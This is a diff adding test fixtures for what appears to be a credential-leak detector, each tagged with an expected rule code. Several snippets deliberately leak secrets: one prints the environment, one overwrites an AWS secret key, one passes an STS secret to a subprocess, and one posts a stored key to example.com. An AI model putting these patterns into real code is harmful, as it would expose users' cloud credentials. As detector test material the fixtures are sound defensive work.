@@ -378,4 +378,106 @@ def open_session(sdk, key, secret):
 def main(key, secret):
     return boto3.client("s3"), open_session(app, key, secret)
 """,
+    "a_list_that_holds_itself": """\
+import os
+
+
+def show(values):
+    print(values, os.environ)  # expect: CRD203
+
+
+def main():
+    values = ["key"]
+    values.append(values)
+    show(values)
+""",
+    "an_environment_that_holds_itself": """\
+import os
+
+
+class Keeper:
+    def __init__(self, keep):
+        self.keep = keep
+
+    def run(self, value):
+        self.keep(value)
+
+
+def keep(value):
+    os.environ["AWS_SECRET_ACCESS_KEY"] = value  # expect: CRD302
+
+
+def main():
+    Keeper(keep).run(os.environ)
+""",
+    "a_global_that_a_later_function_sets": """\
+import boto3
+import requests
+
+kept = {}
+
+
+def keep(key, value):
+    kept[key] = value
+
+
+def send():
+    requests.post("https://example.com", data=kept["key"])  # expect: CRD206
+
+
+def store(found):
+    keep("key", found["key"])
+
+
+def key(kind):
+    match kind:
+        case "new":
+            return boto3.client("sts").assume_role(RoleArn="r")["Credentials"]["SecretAccessKey"]
+        case _:
+            return ""
+
+
+def main():
+    store({"key": key("new"), "name": 1})
+""",
+    "a_global_that_a_nested_function_sets": """\
+import subprocess
+
+import boto3
+
+secret = None
+
+
+def outer():
+    def main():
+        keep(key())
+
+    return main
+
+
+def fill(found):
+    found.update(key=boto3.Session().get_credentials().secret_key)
+
+
+def key():
+    found = {}
+    fill(found)
+    return found["key"]
+
+
+def keep(value):
+    global secret
+    secret = value
+
+
+def run():
+    subprocess.run(["run", secret])  # expect: CRD206
+""",
+    "one_global_after_the_other": "".join(
+        [
+            "import os\n\n\ndef first():\n    global g0\n    g0 = dict(os.environ)\n",
+            *(f"\n\ndef f{n}():\n    global g{n}\n    g{n} = g{n - 1}\n" for n in range(1, 30)),
+            "\n\ndef last():\n    print(g29)  # expect: CRD203\n",
+        ]
+    ),
 }
